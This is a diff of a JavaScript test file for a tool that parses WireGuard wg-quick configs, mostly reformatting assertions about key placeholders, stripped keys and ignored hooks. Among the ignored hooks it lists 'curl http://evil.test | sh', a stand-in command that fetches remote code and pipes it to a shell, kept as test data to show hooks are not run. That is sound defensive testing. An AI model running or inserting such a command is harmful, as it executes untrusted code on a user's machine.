@@ -32,17 +32,26 @@ describe("wg-quick text", () => {
   });
 
   it("refuses a text without the placeholder (a server must never send a real key)", () => {
-    expect(() => cli.wgQuick.fillPrivateKey(SERVER_TEXT.replace("REPLACE_WITH_PRIVATE_KEY", KEY), KEY))
-      .toThrow('the server\'s config has no "PrivateKey = REPLACE_WITH_PRIVATE_KEY" line');
+    expect(() => cli.wgQuick.fillPrivateKey(SERVER_TEXT.replace("REPLACE_WITH_PRIVATE_KEY", KEY), KEY)).toThrow(
+      'the server\'s config has no "PrivateKey = REPLACE_WITH_PRIVATE_KEY" line',
+    );
   });
 
   it("strips every wg-quick-only key, leaving exactly what `wg setconf` takes", () => {
     const plan = cli.wgQuick.planWgQuick(cli.wgQuick.fillPrivateKey(SERVER_TEXT, KEY));
-    expect(plan.setconf).toBe([
-      "[Interface]", `PrivateKey = ${KEY}`, "ListenPort = 51820",
-      "[Peer]", "PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=", "Endpoint = 192.0.2.1:51820",
-      "AllowedIPs = 10.77.0.2/32, 192.168.77.0/24", "PersistentKeepalive = 25", "",
-    ].join("\n"));
+    expect(plan.setconf).toBe(
+      [
+        "[Interface]",
+        `PrivateKey = ${KEY}`,
+        "ListenPort = 51820",
+        "[Peer]",
+        "PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=",
+        "Endpoint = 192.0.2.1:51820",
+        "AllowedIPs = 10.77.0.2/32, 192.168.77.0/24",
+        "PersistentKeepalive = 25",
+        "",
+      ].join("\n"),
+    );
     expect(plan.addresses).toEqual(["10.77.0.1/24", "fd00:77::1/64"]);
     expect(plan.dns).toEqual(["10.77.0.53", "overlay.internal"]);
     expect(plan.mtu).toBe(1380);
@@ -54,7 +63,10 @@ describe("wg-quick text", () => {
     const plan = cli.wgQuick.planWgQuick(cli.wgQuick.fillPrivateKey(SERVER_TEXT, KEY));
     expect(plan.sysctls).toEqual(["net.ipv4.ip_forward=1"]);
     expect(plan.ignored).toEqual([
-      "hook: echo pre", "hook: curl http://evil.test | sh", "PostDown = sysctl -q -w net.ipv4.ip_forward=0", "SaveConfig = false",
+      "hook: echo pre",
+      "hook: curl http://evil.test | sh",
+      "PostDown = sysctl -q -w net.ipv4.ip_forward=0",
+      "SaveConfig = false",
     ]);
   });
 
